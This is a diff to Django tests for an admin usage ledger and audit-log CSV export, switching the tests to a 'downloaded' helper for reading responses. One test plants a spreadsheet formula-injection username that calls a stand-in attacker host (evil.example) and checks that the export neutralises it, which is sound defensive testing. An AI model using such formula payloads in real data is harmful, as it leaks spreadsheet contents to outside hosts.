@@ -12,7 +12,7 @@ from django.test import Client
 
 from conversations import quota
 from conversations.models import AuditEntry, ModelConfig, Policy, UsageRecord, User, UserLimits
-from tests.support import client_for
+from tests.support import client_for, downloaded
 
 pytestmark = pytest.mark.django_db
 
@@ -54,7 +54,7 @@ def test_staff_see_charts_tables_and_export_the_ledger(
     filtered = client.get(f"/admin/usage/?user={alice.pk}").content.decode()
     assert "<td>alice</td>" in filtered and "<td>bob</td>" not in filtered
     export = client.get(f"/admin/usage/export.csv?user={alice.pk}")
-    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
+    rows = list(csv.DictReader(io.StringIO(downloaded(export))))
     assert [(r["user"], r["total_tokens"], r["cache_hit_tokens"]) for r in rows] == [
         ("alice", "450", "300")
     ]
@@ -172,7 +172,7 @@ def test_changes_to_policies_limits_and_models_are_audited(
         "/admin/conversations/auditentry/",
         {"action": "export_csv", "_selected_action": [e.pk for e in AuditEntry.objects.all()]},
     )
-    assert export["Content-Type"] == "text/csv" and export.content.decode().count("\n") == 5
+    assert export["Content-Type"] == "text/csv" and downloaded(export).count("\n") == 5
 
 
 def test_past_costs_keep_the_price_of_their_day(alice: User, chat_model: ModelConfig) -> None:
@@ -206,7 +206,7 @@ def test_exported_text_cannot_run_as_a_spreadsheet_formula(
 ) -> None:
     sneaky = User.objects.create_user('=HYPERLINK("https://evil.example/?"&A2,"x")', password="x")
     spend(sneaky, chat_model, hit=0, miss=10, completion=5)
-    export = client_for(staff).get("/admin/usage/export.csv").content.decode()
+    export = downloaded(client_for(staff).get("/admin/usage/export.csv"))
     rows = list(csv.DictReader(io.StringIO(export)))
     assert [r["user"] for r in rows] == ['\'=HYPERLINK("https://evil.example/?"&A2,"x")']
     assert rows[0]["total_tokens"] == "15"  # numbers stay numbers
